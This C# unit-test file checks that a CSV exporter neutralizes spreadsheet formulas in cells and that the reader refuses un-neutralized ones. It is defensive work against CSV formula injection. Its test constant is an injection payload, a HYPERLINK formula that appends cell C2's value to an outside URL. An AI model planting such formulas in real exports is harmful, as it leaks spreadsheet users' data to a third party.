using MirpsExchange.Catalogue.Csv;
using MirpsExchange.Catalogue.Exports;

namespace MirpsExchange.UnitTests.Exports;

/// <summary>
/// `regional verify` reads a CSV download's cells only as the writer writes them: a text a spreadsheet would run as a formula must carry the
/// quote <see cref="SpreadsheetFormula.Neutralize"/> puts before it (third hostile review of 2026-12-07, finding B).
/// </summary>
public class ExportWrittenFormTests
{
    private const string Note = "=HYPERLINK(\"https://x/?\"&C2,\"fuente\")";

    private static string Csv(string noteCell, string value = "240") =>
        $"indicator_code,country,period,value,note\r\nREFUGEES,_Z,2023,{value},{ObservationCsv.Quote(noteCell)}\r\n";

    [Fact]
    public void A_note_neutralized_as_the_writer_writes_it_reads_back()
    {
        var table = ExportReader.Table(new StringReader(Csv(SpreadsheetFormula.Neutralize(Note)))).ToList();

        Assert.Equal(Note, SpreadsheetFormula.Restore(table[1].Fields[4]));
    }

    [Fact]
    public void A_signed_formula_note_whose_quote_was_removed_is_refused_naming_line_and_field()
    {
        var refused = Assert.Throws<ExportFormatException>(() => ExportReader.Table(new StringReader(Csv(Note))).ToList());

        Assert.Equal(2, refused.Line);
        Assert.Equal("note", refused.ColumnName);
    }

    [Fact]
    public void A_formula_after_a_semicolon_without_its_quote_is_refused()
    {
        var refused = Assert.Throws<ExportFormatException>(() => ExportReader.Table(new StringReader(Csv("fuente;" + Note))).ToList());

        Assert.Equal("note", refused.ColumnName);
    }

    [Fact]
    public void A_number_is_written_as_it_is_and_reads_so()
    {
        var table = ExportReader.Table(new StringReader(Csv("", value: "-5"))).ToList();

        Assert.Equal("-5", table[1].Fields[3]);
    }
}
